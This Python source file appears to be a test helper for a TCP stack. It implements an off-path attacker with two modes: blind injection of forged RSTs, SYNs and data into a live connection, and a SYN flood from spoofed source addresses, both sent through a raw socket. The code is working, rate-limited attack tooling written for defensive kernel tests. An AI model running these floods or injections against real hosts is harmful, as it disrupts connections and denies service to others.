"""An off-path TCP attacker for the real-kernel attack tests (tests/attacks/test_attacks_kernel.py).

Run inside the test's network namespace, on the kernel's side of the TUN
device, with the venv's Python::

    python tests/attacks/attacker.py blind --src 10.77.0.1 --sport 43210 --dst 10.77.0.2 --dport 9
    python tests/attacks/attacker.py flood --dst 10.77.0.2 --dport 80 --src-net 10.77.0.0/24

``blind``: the attacker knows a live connection's 4-tuple but not its
sequence numbers.  At steady rates it sends forged RSTs (bare RST, and
RST+ACK with a random ACK), SYNs, and data segments (ACK+PSH, random ACK,
a ``FORGED`` payload), every one with a uniformly random sequence number:
the best an attacker without the numbers can do (RFC 5961 §1.2).

``flood``: SYNs from spoofed sources (random addresses in ``--src-net``
other than the ones ``--exclude``\\ d, random ports and ISNs, the options a
Linux client offers) at a steady rate (RFC 4987).

Packets are built with scapy once per kind, as templates; per packet only
the fields that vary (addresses, ports, sequence and acknowledgment numbers,
IP ID) are patched and both checksums recomputed here, independently of
synack's own code, so the attacker keeps up a rate scapy's per-packet
building cannot.  A self-check compares the patched packets with what scapy
makes of the same fields.  Packets go out through a raw IP socket
(``IPPROTO_RAW``, as scapy's ``L3RawSocket`` does), which the kernel routes
to the TUN device like any locally generated packet.

Every loop is bounded by ``--duration`` seconds and ``--max-packets``; the
attacker also stops on SIGTERM/SIGINT.  It prints ``attacking`` when it
starts and, at the end, one line ``result {json}`` with what it sent: counts
per kind, packets per second of the attack, the rate, and ``start``/``end`` on
the CLOCK_MONOTONIC clock (``time.monotonic()``), the clock synack's trace uses.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import signal
import socket
import struct
import sys
import time
from array import array
from typing import Any

from scapy.layers.inet import IP, TCP
from scapy.packet import Raw

PAYLOAD = b"FORGED-BY-THE-ATTACKER!!" * 24  # 576 bytes; forged data never reaches the app
_NATIVE_LE = sys.byteorder == "little"


def inet_checksum(data: bytes | bytearray) -> int:
    """RFC 1071 Internet checksum, as a big-endian 16-bit value."""
    if len(data) % 2:
        data = bytes(data) + b"\0"
    s = sum(array("H", bytes(data)))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    s = ~s & 0xFFFF
    return ((s & 0xFF) << 8 | s >> 8) if _NATIVE_LE else s


class Template:
    """A scapy-built IPv4/TCP packet whose varying fields are patched per packet."""

    def __init__(self, pkt: Any) -> None:
        self.raw = bytearray(bytes(pkt))
        self.ihl = (self.raw[0] & 0x0F) * 4
        self.tcp_len = len(self.raw) - self.ihl

    def make(
        self, src: bytes, dst: bytes, sport: int, dport: int, seq: int, ack: int, ip_id: int
    ) -> bytes:
        b = self.raw
        ihl = self.ihl
        struct.pack_into("!H", b, 4, ip_id)
        b[12:16] = src
        b[16:20] = dst
        struct.pack_into("!H", b, 10, 0)
        struct.pack_into("!H", b, 10, inet_checksum(b[:ihl]))
        struct.pack_into("!HHII", b, ihl, sport, dport, seq, ack)
        struct.pack_into("!H", b, ihl + 16, 0)
        pseudo = src + dst + struct.pack("!BBH", 0, 6, self.tcp_len)
        struct.pack_into("!H", b, ihl + 16, inet_checksum(pseudo + b[ihl:]))
        return bytes(b)


def self_check(templates: dict[str, Template], rng: random.Random) -> None:
    """Each patched packet must equal scapy's own build of the same fields."""
    for kind, tpl in templates.items():
        src, dst = bytes([10, 1, 2, 3]), bytes([10, 4, 5, 6])
        pkt = tpl.make(
            src,
            dst,
            rng.randrange(1, 65536),
            rng.randrange(1, 65536),
            rng.getrandbits(32),
            rng.getrandbits(32),
            rng.randrange(65536),
        )
        parsed = IP(pkt)
        del parsed.chksum
        del parsed[TCP].chksum
        if bytes(parsed) != pkt:
            raise SystemExit(f"attacker self-check failed for {kind}: checksums differ")


def blind_templates() -> dict[str, Template]:
    ip = IP(src="0.0.0.0", dst="0.0.0.0", ttl=64)
    return {
        "rst": Template(ip / TCP(flags="R", window=0)),
        "rst_ack": Template(ip / TCP(flags="RA", window=0)),
        "syn": Template(
            ip
            / TCP(flags="S", window=64240, options=[("MSS", 1460), ("SAckOK", b""), ("WScale", 7)])
        ),
        "data": Template(ip / TCP(flags="PA", window=502) / Raw(PAYLOAD)),
    }


def flood_templates() -> dict[str, Template]:
    ip = IP(src="0.0.0.0", dst="0.0.0.0", ttl=64)
    opts = [
        ("MSS", 1460),
        ("SAckOK", b""),
        ("Timestamp", (123456, 0)),
        ("NOP", None),
        ("WScale", 7),
    ]
    return {"syn": Template(ip / TCP(flags="S", window=64240, options=opts))}


class Stopper:
    def __init__(self) -> None:
        self.stop = False
        for sig in (signal.SIGTERM, signal.SIGINT):
            signal.signal(sig, self._on)

    def _on(self, signum: int, frame: Any) -> None:
        self.stop = True


def run(
    args: argparse.Namespace, rates: dict[str, float], templates: dict[str, Template], fields: Any
) -> dict[str, Any]:
    """Send each kind at its rate until the duration, the packet budget or a signal."""
    rng = random.Random(args.seed)
    self_check(templates, rng)
    stopper = Stopper()
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    dst = args.dst
    sent = dict.fromkeys(rates, 0)
    errors = 0
    per_second: list[int] = []
    total = 0
    print("attacking", flush=True)
    start = time.monotonic()
    elapsed = 0.0
    while not stopper.stop and total < args.max_packets:
        elapsed = time.monotonic() - start
        if elapsed >= args.duration:
            break
        second = int(elapsed)
        while len(per_second) <= second:
            per_second.append(0)
        for kind, rate in rates.items():
            due = min(int(elapsed * rate) - sent[kind], args.max_packets - total)
            tpl = templates[kind]
            for _ in range(max(due, 0)):
                pkt = tpl.make(*fields(kind, rng))
                try:
                    sock.sendto(pkt, (dst, 0))
                except OSError:  # ENOBUFS: the device queue is full; count, go on
                    errors += 1
                sent[kind] += 1
                total += 1
                per_second[second] += 1
        time.sleep(0.002)
    end = time.monotonic()
    seconds = end - start
    sock.close()
    return {
        "sent": sent,
        "total": total,
        "start": start,
        "end": end,
        "seconds": round(seconds, 3),
        "per_second": per_second,
        "send_errors": errors,
        "rate": round(total / seconds, 1) if seconds else 0.0,
    }


def blind(args: argparse.Namespace) -> dict[str, Any]:
    src, dst = socket.inet_aton(args.src), socket.inet_aton(args.dst)
    rates = {
        "rst": args.rst_rate / 2,
        "rst_ack": args.rst_rate / 2,
        "syn": args.syn_rate,
        "data": args.data_rate,
    }

    def fields(kind: str, rng: random.Random) -> tuple[Any, ...]:
        ack = 0 if kind in ("rst", "syn") else rng.getrandbits(32)
        return (src, dst, args.sport, args.dport, rng.getrandbits(32), ack, rng.randrange(65536))

    return run(args, rates, blind_templates(), fields)


def flood(args: argparse.Namespace) -> dict[str, Any]:
    net = ipaddress.IPv4Network(args.src_net)
    excluded = {int(ipaddress.IPv4Address(a)) for a in args.exclude}
    excluded |= {int(net.network_address), int(net.broadcast_address)}
    base, size = int(net.network_address), net.num_addresses
    dst = socket.inet_aton(args.dst)

    def fields(kind: str, rng: random.Random) -> tuple[Any, ...]:
        while (addr := base + rng.randrange(size)) in excluded:
            pass
        return (
            addr.to_bytes(4, "big"),
            dst,
            rng.randrange(1024, 65536),
            args.dport,
            rng.getrandbits(32),
            0,
            rng.randrange(65536),
        )

    return run(args, {"syn": args.rate}, flood_templates(), fields)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    sub = p.add_subparsers(dest="mode", required=True)
    b = sub.add_parser("blind", help="forged RSTs, SYNs and data into one live 4-tuple")
    b.add_argument("--src", required=True)
    b.add_argument("--sport", type=int, required=True)
    b.add_argument("--dst", required=True)
    b.add_argument("--dport", type=int, required=True)
    b.add_argument("--rst-rate", type=float, default=1000.0)
    b.add_argument("--syn-rate", type=float, default=200.0)
    b.add_argument("--data-rate", type=float, default=300.0)
    f = sub.add_parser("flood", help="SYNs from spoofed sources")
    f.add_argument("--dst", required=True)
    f.add_argument("--dport", type=int, required=True)
    f.add_argument("--src-net", required=True)
    f.add_argument("--exclude", action="append", default=[])
    f.add_argument("--rate", type=float, default=5000.0)
    for sp in (b, f):
        sp.add_argument("--duration", type=float, default=10.0)
        sp.add_argument("--max-packets", type=int, default=100_000)
        sp.add_argument("--seed", type=int, default=None)
    args = p.parse_args(argv)
    result = blind(args) if args.mode == "blind" else flood(args)
    print("result " + json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
